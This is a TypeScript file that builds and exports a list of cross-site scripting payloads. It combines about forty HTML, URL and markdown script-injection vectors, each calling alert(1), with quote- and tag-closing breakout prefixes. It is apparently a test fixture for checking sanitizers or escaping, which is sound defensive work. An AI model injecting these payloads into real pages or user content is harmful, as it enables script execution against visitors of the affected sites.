const CALL = 'alert(1)';
/** Elements and attributes that run a script by themselves. */
const VECTORS = [
  `<script>${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}">`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<body onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:${CALL}">`,
  `<object data="javascript:${CALL}">`,
  `<embed src="javascript:${CALL}">`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<style>@import "javascript:${CALL}"</style>`,
  `<link rel=stylesheet href="javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<a href="javascript:${CALL}" autofocus>x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<p style="animation:x" onanimationstart=${CALL}>x</p>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `[x](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`,
  `[x]: javascript:${CALL}\n\n[x]`,
  `<javascript:${CALL}>`,
  `\`<img src=x onerror=${CALL}>\``,
  `<!--><img src=x onerror=${CALL}>-->`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#x3c;img src=x onerror=${CALL}&#x3e;`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `%3Cimg%20src=x%20onerror=${CALL}%3E`,
];
/** What a text may have to break out of. */
const BREAKOUTS = ['', '">', "'>", '</title></textarea></script></style>', '--></code></pre>'];

/** Texts that run a script in a page that does not escape them. */
export const XSS_PAYLOADS: readonly string[] = BREAKOUTS.flatMap((breakout) =>
  VECTORS.map((vector) => breakout + vector),
);
